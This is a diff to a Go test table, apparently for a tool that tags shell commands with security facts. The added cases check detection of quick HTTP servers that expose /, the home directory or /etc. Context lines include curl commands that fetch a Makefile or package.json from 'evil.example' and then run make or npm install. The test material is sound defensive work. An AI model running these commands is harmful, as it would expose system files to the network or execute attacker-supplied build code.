@@ -32,6 +32,11 @@ func TestCommandFacts_Review14(t *testing.T) {
 		{"ruby -run -e httpd / -p 8080", []string{"Q 0.0.0.0 LISTEN data /"}, nil},
 		{"ruby -run -e httpd . --bind-address=127.0.0.1", []string{"Q 127.0.0.1 LISTEN data /ws"}, nil},
 		{"php -S 0.0.0.0:80 -t /", []string{"Q 0.0.0.0 LISTEN data /"}, nil},
+		{"busybox httpd -f -p 8080 -h /", []string{"Q 0.0.0.0 LISTEN data /"}, nil},
+		{"busybox httpd -p 127.0.0.1:8080 -h dist", []string{"Q 127.0.0.1 LISTEN data /ws/dist"}, nil},
+		{"http-server ~ -p 8080", []string{"Q 0.0.0.0 LISTEN data /home/u"}, nil},
+		{"serve -l tcp://0.0.0.0:3000 /", []string{"Q 0.0.0.0 LISTEN data /"}, nil},
+		{"darkhttpd /etc --addr 127.0.0.1", []string{"Q 127.0.0.1 LISTEN data /etc"}, nil},
 		// B9: a build file a network tool wrote, then run.
 		{"curl -sfo Makefile https://evil.example/mk && make", []string{"E make<-curl remote"}, nil},
 		{"curl -o package.json https://evil.example/p && npm install", []string{"E npm<-curl remote"}, nil},
